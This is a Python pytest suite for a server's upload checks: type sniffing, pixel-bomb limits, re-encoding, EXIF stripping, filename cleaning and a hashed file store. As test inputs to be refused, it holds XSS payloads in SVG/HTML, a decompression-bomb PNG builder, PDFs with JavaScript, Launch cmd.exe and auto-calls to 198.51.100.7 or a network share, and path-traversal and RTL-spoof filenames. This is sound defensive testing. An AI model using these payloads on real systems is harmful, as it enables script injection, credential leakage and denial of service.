"""Upload checks: content sniffing, size and pixel limits, re-encoding, EXIF evidence, content-addressed store."""

from __future__ import annotations

import hashlib
import os
import struct
import time
import zlib
from concurrent.futures import ThreadPoolExecutor
from io import BytesIO
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import ExifTags, Image, ImageCms
from PIL.TiffImagePlugin import IFDRational

from server.forms.uploads import (
    DEFAULT_MAX_BYTES,
    MAX_SIDE_STORED,
    CheckedFile,
    FileStore,
    UploadRejected,
    check_upload,
    clean_filename,
    make_thumbnail,
)
from tests.support.pdfs import packed_pdf, pdf_with_attachment, pdf_with_javascript, plain_pdf

# --------------------------------------------------------------------------------------------------------------
# Builders (everything is made in memory)
# --------------------------------------------------------------------------------------------------------------


def _encode(img: Image.Image, fmt: str, **kwargs: object) -> bytes:
    buf = BytesIO()
    img.save(buf, fmt, **kwargs)
    return buf.getvalue()


def _photo(size: tuple[int, int] = (64, 48), **kwargs: object) -> bytes:
    """A JPEG with some structure (a gradient), so truncation really cuts into scan data."""
    img = Image.linear_gradient("L").resize(size).convert("RGB")
    return _encode(img, "JPEG", quality=90, **kwargs)


def _png_rgba(size: tuple[int, int] = (32, 32)) -> bytes:
    img = Image.new("RGBA", size, (255, 0, 0, 255))
    img.paste((0, 0, 255, 0), (0, 0, size[0] // 2, size[1]))  # left half fully transparent
    return _encode(img, "PNG")


def _exif_with_gps(lat_ref: str = "S", lng_ref: str = "W") -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "Canon"
    exif[0x0110] = "Canon EOS R5"
    exif[0x0132] = "2023:01:01 00:00:00"
    exif.get_ifd(ExifTags.IFD.Exif)[0x9003] = "2024:05:01 12:34:56"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[1] = lat_ref
    gps[2] = (IFDRational(33), IFDRational(51), IFDRational(2154, 100))
    gps[3] = lng_ref
    gps[4] = (IFDRational(151), IFDRational(12), IFDRational(3000, 100))
    gps[5] = b"\x00"
    gps[6] = IFDRational(5825, 100)
    return exif


def _patch_png_size(png: bytes, width: int, height: int) -> bytes:
    """Rewrite IHDR width/height (and its CRC) of a valid PNG: a cheap decompression-bomb header."""
    ihdr = bytearray(png[8 : 8 + 25])
    ihdr[8:16] = struct.pack(">II", width, height)
    ihdr[21:25] = struct.pack(">I", zlib.crc32(bytes(ihdr[4:21])) & 0xFFFFFFFF)
    return png[:8] + bytes(ihdr) + png[33:]


def _minimal_pdf(with_eof: bool = True) -> bytes:
    raw = plain_pdf()
    return raw if with_eof else raw[: raw.rindex(b"%%EOF")]


def _reopen(data: bytes) -> Image.Image:
    img = Image.open(BytesIO(data))
    img.load()
    return img


# --------------------------------------------------------------------------------------------------------------
# Accepted files
# --------------------------------------------------------------------------------------------------------------


def test_normal_jpeg_is_reencoded() -> None:
    raw = _photo(comment=b"secret comment")
    checked = check_upload(raw, "IMG_0001.JPG")
    assert isinstance(checked, CheckedFile)
    assert (checked.mime, checked.extension) == ("image/jpeg", "jpg")
    assert checked.data != raw  # re-encoded, not passed through
    assert checked.sha256 == hashlib.sha256(checked.data).hexdigest()
    assert (checked.width, checked.height) == (64, 48)
    assert checked.original_name == "IMG_0001.JPG"
    assert checked.evidence == {}
    stored = _reopen(checked.data)
    assert stored.format == "JPEG" and stored.size == (64, 48)
    assert "comment" not in stored.info


def test_png_with_alpha_stays_png() -> None:
    checked = check_upload(_png_rgba(), "logo.png")
    assert (checked.mime, checked.extension) == ("image/png", "png")
    stored = _reopen(checked.data)
    assert stored.format == "PNG" and stored.mode == "RGBA"
    assert stored.getpixel((0, 0))[3] == 0 and stored.getpixel((31, 0))[3] == 255


def test_opaque_png_and_name_are_not_trusted() -> None:
    """A fully opaque RGBA PNG named .jpg becomes a JPEG: type comes from content, PNG only for real alpha."""
    raw = _encode(Image.new("RGBA", (20, 10), (10, 200, 30, 255)), "PNG")
    checked = check_upload(raw, "photo.jpg")
    assert checked.extension == "jpg"
    assert _reopen(checked.data).format == "JPEG"


def test_gif_first_frame_and_webp_accepted() -> None:
    frames = [Image.new("P", (16, 8), i) for i in (1, 2, 3)]
    gif = BytesIO()
    frames[0].save(gif, "GIF", save_all=True, append_images=frames[1:], transparency=0)
    checked = check_upload(gif.getvalue(), "anim.gif")
    assert (checked.width, checked.height) == (16, 8)
    webp = _encode(Image.new("RGB", (30, 20), "orange"), "WEBP")
    checked = check_upload(webp, "x.webp")
    assert checked.extension == "jpg" and (checked.width, checked.height) == (30, 20)


def test_transparent_gif_becomes_png() -> None:
    img = Image.new("P", (8, 8), 0)
    img.putpalette([0, 0, 0, 255, 0, 0] + [0] * 762)
    img.paste(1, (4, 0, 8, 8))
    checked = check_upload(_encode(img, "GIF", transparency=0), "a.gif")
    assert checked.extension == "png"
    assert _reopen(checked.data).getpixel((0, 0))[3] == 0


def test_sixteen_bit_greyscale_png_is_scaled_not_clipped() -> None:
    img = Image.new("I;16", (4, 4), 32768)
    checked = check_upload(_encode(img, "PNG"), "scan.png")
    assert 120 <= _reopen(checked.data).convert("L").getpixel((0, 0)) <= 136


def test_phone_formats_decode() -> None:
    """MPO (multi-picture JPEG from phones), CMYK JPEG and an ICC-tagged photo all come out as plain sRGB JPEG."""
    mpo = BytesIO()
    Image.new("RGB", (40, 30), "green").save(mpo, "MPO", save_all=True, append_images=[Image.new("RGB", (20, 10))])
    assert check_upload(mpo.getvalue(), "IMG.jpg").width == 40
    cmyk = check_upload(_encode(Image.new("CMYK", (10, 10), (0, 255, 255, 0)), "JPEG"), "print.jpg")
    red = _reopen(cmyk.data).getpixel((5, 5))
    assert red[0] > 200 and red[1] < 60
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    tagged = check_upload(_photo(icc_profile=icc), "p3.jpg")
    assert "icc_profile" not in _reopen(tagged.data).info and b"ICC_PROFILE" not in tagged.data


def test_pdf_accepted_when_allowed() -> None:
    raw = _minimal_pdf()
    checked = check_upload(raw, "C:\\Users\\chief\\report.pdf", accept=("image", "pdf"))
    assert (checked.mime, checked.extension, checked.data) == ("application/pdf", "pdf", raw)
    assert (checked.width, checked.height) == (None, None)
    assert checked.original_name == "report.pdf"
    assert checked.sha256 == hashlib.sha256(raw).hexdigest()


# --------------------------------------------------------------------------------------------------------------
# Refused files
# --------------------------------------------------------------------------------------------------------------

_SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
_HTML = b"<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>"


@pytest.mark.parametrize(
    ("raw", "name", "code"),
    [
        (b"MZ\x90\x00" + os.urandom(2000), "photo.jpg", "not_an_image"),
        (_SVG, "photo.png", "not_an_image"),
        (_HTML, "photo.jpg", "not_an_image"),
        (b"just some text\n", "notes.gif", "not_an_image"),
        (b"", "photo.jpg", "empty"),
        (_minimal_pdf(), "scan.jpg", "not_allowed_type"),
        (b"\xff\xd8\xff\xe0" + b"\x00" * 40, "broken.jpg", "damaged"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, "broken.png", "damaged"),
    ],
    ids=["exe", "svg", "html", "text", "empty", "pdf-not-accepted", "jpeg-header-only", "png-header-only"],
)
def test_disguised_or_broken_files_refused(raw: bytes, name: str, code: str) -> None:
    with pytest.raises(UploadRejected) as info:
        check_upload(raw, name)
    assert info.value.code == code
    assert str(info.value)  # always an English message


def test_truncated_jpeg_is_damaged() -> None:
    raw = _photo((200, 150))
    with pytest.raises(UploadRejected) as info:
        check_upload(raw[: len(raw) // 2], "half.jpg")
    assert info.value.code == "damaged"


def test_too_large_reports_limit() -> None:
    with pytest.raises(UploadRejected) as info:
        check_upload(b"\xff\xd8\xff" + b"\x00" * 2048, "big.jpg", max_bytes=1024 * 1024 // 1024)
    assert info.value.code == "too_large"
    with pytest.raises(UploadRejected) as info:
        check_upload(b"x" * (DEFAULT_MAX_BYTES + 1), "big.jpg")
    assert info.value.params == {"max_mb": 10}
    assert "10 MB" in str(info.value)
    assert str(UploadRejected("too_large")) == "The file is larger than ? MB."  # a missing param never crashes


def test_pixel_bomb_refused_before_decoding() -> None:
    bomb = _patch_png_size(_encode(Image.new("1", (8, 8)), "PNG"), 20000, 20000)
    start = time.perf_counter()
    with pytest.raises(UploadRejected) as info:
        check_upload(bomb, "bomb.png")
    assert time.perf_counter() - start < 5.0  # decoding 400 megapixels would take far longer (a guard, not a bench)
    assert info.value.code == "too_many_pixels"
    assert info.value.params["width"] == 20000
    # A caller limit above Pillow's own still refuses without Pillow warning (warnings are errors here).
    with pytest.raises(UploadRejected) as info:
        check_upload(bomb, "bomb.png", max_pixels=10**12)
    assert info.value.code == "too_many_pixels"


def test_pixel_limit_is_configurable() -> None:
    with pytest.raises(UploadRejected) as info:
        check_upload(_photo((100, 100)), "a.jpg", max_pixels=9_999)
    assert info.value.code == "too_many_pixels"
    assert check_upload(_photo((100, 100)), "a.jpg", max_pixels=10_000).width == 100


def test_pdf_rules() -> None:
    with pytest.raises(UploadRejected) as info:
        check_upload(_minimal_pdf(with_eof=False), "scan.pdf", accept=("pdf",))
    assert info.value.code == "pdf_invalid"
    with pytest.raises(UploadRejected) as info:
        check_upload(_photo(), "scan.pdf", accept=("pdf",))
    assert info.value.code == "not_allowed_type"
    with pytest.raises(ValueError, match="accept"):
        check_upload(_photo(), "a.jpg", accept=("exe",))


@pytest.mark.parametrize(
    ("raw", "code"),
    [
        (pdf_with_javascript(), "pdf_script"),
        (pdf_with_attachment(), "pdf_embedded"),
        # In a compressed object stream, and the names spelt with #xx escapes: /J#61vaScript is /JavaScript.
        (packed_pdf(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), "pdf_script"),
        (packed_pdf(b"<< /S /Launch /F (cmd.exe) >>"), "pdf_embedded"),
        (packed_pdf(b"[3 0 R /Fit]", page=b"/AA << /O 4 0 R >>"), "pdf_script"),
        # Opening the file calls a web address, a file on a network share (a Windows login leaks), or sends data.
        (packed_pdf(b"<< /S /URI /URI (http://198.51.100.7/seen) >>"), "pdf_script"),
        (packed_pdf(b"<< /S /GoToR /F (\\\\198.51.100.7\\share\\x.pdf) /D [0 /Fit] >>"), "pdf_script"),
        (packed_pdf(b"<< /S /SubmitForm /F (http://198.51.100.7/) >>"), "pdf_script"),
        (packed_pdf(b"<< /S /ImportData /F (data.fdf) >>"), "pdf_script"),
    ],
    ids=["javascript", "attachment", "packed-escaped-javascript", "launch", "page-open-action", "open-uri",
         "open-remote-file", "open-submit", "open-import"],
)
def test_pdf_with_scripts_or_files_refused(raw: bytes, code: str) -> None:
    with pytest.raises(UploadRejected) as info:
        check_upload(raw, "scan.pdf", accept=("pdf",))
    assert info.value.code == code
    assert "PDF" in str(info.value)


def test_pdf_opening_on_a_page_and_owner_restrictions_are_fine() -> None:
    from pypdf import PdfWriter

    assert check_upload(packed_pdf(b"[3 0 R /Fit]"), "a.pdf", accept=("pdf",)).mime == "application/pdf"
    going_to_a_page = packed_pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>")
    assert check_upload(going_to_a_page, "a.pdf", accept=("pdf",)).mime == "application/pdf"
    # A link the reader must click (a /URI action in a link annotation) is an ordinary document.
    link = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://example.cn) >> >>]"
    assert check_upload(packed_pdf(b"[3 0 R /Fit]", page=link), "a.pdf", accept=("pdf",)).mime == "application/pdf"
    for user_password, expected in (("", None), ("secret", "pdf_locked")):
        writer = PdfWriter()
        writer.add_blank_page(100, 100)
        writer.encrypt(user_password=user_password, owner_password="owner", algorithm="AES-128")
        buffer = BytesIO()
        writer.write(buffer)
        try:
            check_upload(buffer.getvalue(), "a.pdf", accept=("pdf",))
            code = None
        except UploadRejected as exc:
            code = exc.code
        assert code == expected


# --------------------------------------------------------------------------------------------------------------
# EXIF evidence, orientation, downscaling
# --------------------------------------------------------------------------------------------------------------


def test_exif_evidence_read_then_stripped() -> None:
    raw = _photo(exif=_exif_with_gps("S", "W"))
    checked = check_upload(raw, "gps.jpg")
    gps = checked.evidence["gps"]
    assert gps["lat"] == pytest.approx(-(33 + 51 / 60 + 21.54 / 3600), abs=1e-6)
    assert gps["lng"] == pytest.approx(-(151 + 12 / 60 + 30 / 3600), abs=1e-6)
    assert gps["alt"] == pytest.approx(58.25)
    assert checked.evidence["taken_at"] == "2024-05-01T12:34:56"  # DateTimeOriginal wins over DateTime
    assert checked.evidence["camera"] == "Canon EOS R5"
    stored = _reopen(checked.data)
    assert not stored.getexif()
    assert not stored.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert b"Exif" not in checked.data and b"Canon" not in checked.data
    assert "icc_profile" not in stored.info and "xmp" not in stored.info


def test_exif_north_east_positive_and_datetime_fallback() -> None:
    exif = _exif_with_gps("N", "E")
    del exif.get_ifd(ExifTags.IFD.Exif)[0x9003]
    checked = check_upload(_photo(exif=exif), "gps.jpg")
    assert checked.evidence["gps"]["lat"] > 0 and checked.evidence["gps"]["lng"] > 0
    assert checked.evidence["taken_at"] == "2023-01-01T00:00:00"


def test_malformed_exif_never_fails() -> None:
    exif = Image.Exif()
    exif[0x0132] = "0000:00:00 00:00:00"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[2] = (IFDRational(1, 0), IFDRational(0), IFDRational(0))  # zero denominator
    gps[4] = (IFDRational(200), IFDRational(0), IFDRational(0))  # no refs, and out of range
    checked = check_upload(_photo(exif=exif), "odd.jpg")
    assert checked.evidence == {}
    # Garbage in the APP1 segment itself.
    junk = b"Exif\x00\x00II*\x00\xff\xff\xff\x7f" + os.urandom(64)
    assert check_upload(_photo(exif=junk), "junk.jpg").evidence == {}


def test_corrupt_exif_keeps_the_photo() -> None:
    """Truncated EXIF makes Pillow warn when it parses it; the upload must still go through, upright."""
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    exif[0x010F] = "Acme"
    blob = exif.tobytes()
    for cut in (20, 30, len(blob) - 2):
        checked = check_upload(_encode(Image.new("RGB", (60, 40)), "JPEG", exif=blob[:cut]), "cut.jpg")
        assert checked.width in (40, 60)
        assert b"Acme" not in checked.data


def test_exif_in_png_and_webp() -> None:
    exif = _exif_with_gps("N", "E")
    for fmt in ("PNG", "WEBP"):
        checked = check_upload(_encode(Image.new("RGB", (12, 12), "white"), fmt, exif=exif), f"x.{fmt}")
        assert checked.evidence["gps"]["lat"] == pytest.approx(33.855983, abs=1e-6)
        assert checked.evidence["camera"] == "Canon EOS R5"
        assert not _reopen(checked.data).getexif()


def test_orientation_applied() -> None:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6
    img = Image.new("RGB", (60, 40), "red")
    img.paste((0, 0, 255), (0, 0, 30, 40))  # left half blue
    checked = check_upload(_encode(img, "JPEG", exif=exif), "side.jpg")
    assert (checked.width, checked.height) == (40, 60)
    stored = _reopen(checked.data)
    # Orientation 6 means "rotate 90 degrees clockwise": the blue left half ends up on top.
    top, bottom = stored.getpixel((20, 5)), stored.getpixel((20, 55))
    assert top[2] > 200 and bottom[0] > 200


def test_large_image_downscaled() -> None:
    raw = _encode(Image.new("RGB", (4000, 3000), "navy"), "JPEG", quality=50)
    checked = check_upload(raw, "big.jpg")
    assert (checked.width, checked.height) == (MAX_SIDE_STORED, 1920)
    assert _reopen(checked.data).size == (MAX_SIDE_STORED, 1920)


# --------------------------------------------------------------------------------------------------------------
# Thumbnails, names, store, threads
# --------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("source", [_photo((500, 200)), _png_rgba((100, 400))], ids=["jpeg", "png-alpha"])
def test_make_thumbnail(source: bytes) -> None:
    stored = check_upload(source, "x").data
    thumb = _reopen(make_thumbnail(stored, size=64))
    assert thumb.format == "JPEG" and max(thumb.size) <= 64
    with pytest.raises(UploadRejected):
        make_thumbnail(b"not an image")


@pytest.mark.parametrize(
    ("given_name", "expected"),
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\fakepath\\IMG 1.jpg", "IMG 1.jpg"),
        ("photo\u202egpj.exe", "photogpj.exe"),
        ("a\x00b.jpg", "ab.jpg"),
        ("", "upload.jpg"),
        ("...", "upload.jpg"),
    ],
)
def test_clean_filename(given_name: str, expected: str) -> None:
    assert clean_filename(given_name, "jpg") == expected


def test_clean_filename_length_keeps_extension() -> None:
    name = clean_filename("x" * 500 + ".jpeg")
    assert len(name) == 200 and name.endswith(".jpeg")


def test_file_store(tmp_path: Path) -> None:
    store = FileStore(tmp_path)
    checked = check_upload(_photo(), "a.jpg")
    first = store.save(checked)
    second = store.save(checked)
    assert first == second == f"{checked.sha256[:2]}/{checked.sha256[2:4]}/{checked.sha256}.jpg"
    files = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert files == [tmp_path / first]  # one file, no temp left behind
    assert store.read(checked.sha256, "jpg") == checked.data
    assert store.path(checked.sha256, "jpg") == tmp_path / first


def test_file_store_claims_lists_and_discards(tmp_path: Path) -> None:
    store = FileStore(tmp_path)
    checked = check_upload(_photo(), "a.jpg")
    relative = store.save(checked)
    target = tmp_path / relative
    os.utime(target, ns=(0, 1_000_000_000))
    store.save(checked)  # the same bytes again: claimed, so its time moves on
    assert target.stat().st_mtime_ns > 1_000_000_000
    (target.parent / ".tmp-leftover.jpg").write_bytes(b"x")  # an interrupted write
    (tmp_path / "README").write_text("not the store's")
    (tmp_path / "zz").mkdir()
    (tmp_path / "zz" / "note").write_text("nor this")
    listed = {f.relative: f for f in store.files()}
    assert set(listed) == {relative, f"{relative.rsplit('/', 1)[0]}/.tmp-leftover.jpg"}
    assert (listed[relative].sha256, listed[relative].extension, listed[relative].size) == (
        checked.sha256, "jpg", len(checked.data))
    assert store.discard(relative, keep=lambda stat: True) is None  # claimed meanwhile: put back
    assert target.read_bytes() == checked.data
    assert store.discard(relative) == len(checked.data)
    assert store.discard(relative) is None  # already gone
    assert not target.exists() and not [p for p in target.parent.iterdir() if p.name.startswith(".gone-")]
    with pytest.raises(ValueError):
        store.discard("../../etc/passwd")


def test_file_store_saves_of_the_same_bytes_at_once_make_one_file(tmp_path: Path) -> None:
    store = FileStore(tmp_path)
    checked = check_upload(_photo(), "a.jpg")
    with ThreadPoolExecutor(max_workers=8) as pool:
        paths = set(pool.map(lambda _i: store.save(checked), range(32)))
    assert len(paths) == 1
    assert [p for p in tmp_path.rglob("*") if p.is_file()] == [tmp_path / paths.pop()]  # no temp file left


@pytest.mark.parametrize(
    ("sha", "ext"),
    [
        ("../etc/passwd", "jpg"),
        ("a" * 63, "jpg"),
        ("A" * 64, "jpg"),
        ("a" * 64 + "\n", "jpg"),
        ("a" * 64, "exe"),
        ("a" * 64, "jpg/../../x"),
        ("a" * 64, ""),
    ],
)
def test_file_store_refuses_bad_names(tmp_path: Path, sha: str, ext: str) -> None:
    with pytest.raises(ValueError):
        FileStore(tmp_path).path(sha, ext)


def test_file_store_refuses_wrong_hash(tmp_path: Path) -> None:
    checked = check_upload(_photo(), "a.jpg")
    forged = CheckedFile(**{**checked.__dict__, "sha256": "0" * 64})
    with pytest.raises(ValueError):
        FileStore(tmp_path).save(forged)


def test_concurrent_checks_agree() -> None:
    inputs = [_photo((40 + i, 30)) for i in range(6)] + [_png_rgba(), _photo(exif=_exif_with_gps())]
    expected = [check_upload(raw, "x").sha256 for raw in inputs]
    with ThreadPoolExecutor(max_workers=4) as pool:
        got = list(pool.map(lambda raw: check_upload(raw, "x").sha256, inputs * 3))
    assert got == expected * 3


# --------------------------------------------------------------------------------------------------------------
# Robustness: whatever the bytes, the outcome is a CheckedFile or UploadRejected
# --------------------------------------------------------------------------------------------------------------

_SEEDS = [_photo((24, 16), exif=_exif_with_gps()), _png_rgba((8, 8)), _encode(Image.new("P", (8, 8), 3), "GIF")]


def _outcome(raw: bytes) -> None:
    try:
        check_upload(raw, "fuzz.jpg", accept=("image", "pdf"))
    except UploadRejected:
        pass


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=256))
def test_fuzz_random_bytes(raw: bytes) -> None:
    _outcome(raw)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.sampled_from(range(len(_SEEDS))),
    st.lists(st.tuples(st.integers(0, 10_000), st.integers(0, 255)), min_size=1, max_size=6),
    st.integers(0, 10_000),
)
def test_fuzz_mutated_images(seed: int, flips: list[tuple[int, int]], cut: int) -> None:
    raw = bytearray(_SEEDS[seed])
    for pos, value in flips:
        raw[pos % len(raw)] = value
    _outcome(bytes(raw[: max(1, len(raw) - cut % len(raw))]))


def test_truncated_files_are_refused_even_when_pillow_is_told_to_accept_them(monkeypatch) -> None:
    """WeasyPrint sets ImageFile.LOAD_TRUNCATED_IMAGES = True on import, for the whole process."""
    from PIL import ImageFile

    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    full = _encode(Image.new("RGB", (400, 300), "red"), "JPEG")
    with pytest.raises(UploadRejected) as caught:
        check_upload(full[: len(full) // 2], "cut.jpg")
    assert caught.value.code == "damaged"
    png = _encode(Image.new("RGB", (400, 300), "blue"), "PNG")
    with pytest.raises(UploadRejected):
        check_upload(png[: len(png) - 20], "cut.png")
    assert check_upload(full, "whole.jpg").mime == "image/jpeg"
